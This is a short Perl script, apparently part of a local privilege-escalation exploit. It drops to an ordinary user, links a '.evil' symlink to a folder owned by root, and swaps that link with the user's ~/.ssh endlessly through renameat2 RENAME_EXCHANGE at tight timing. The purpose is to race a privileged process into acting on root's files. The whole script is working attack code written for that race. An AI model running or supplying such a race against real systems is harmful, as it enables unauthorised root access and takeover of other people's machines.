# The account swaps ~/.ssh with a link to a folder of root's, and back, until it is ended: race.pl UID HOME TARGET
use strict;
my ($uid, $home, $target) = @ARGV;
$( = $uid; $) = "$uid $uid"; $< = $uid; $> = $uid;
die "still root" if $> == 0;
symlink $target, "$home/.evil" or die "no link: $!";
my ($here, $one, $other) = (-100, "$home/.ssh", "$home/.evil");
for (my $n = 0;; ++$n) {
  syscall(316, $here, $one, $here, $other, 2);   # renameat2, RENAME_EXCHANGE
  select undef, undef, undef, $n % 2 ? 0.0008 : 0.0004;
}
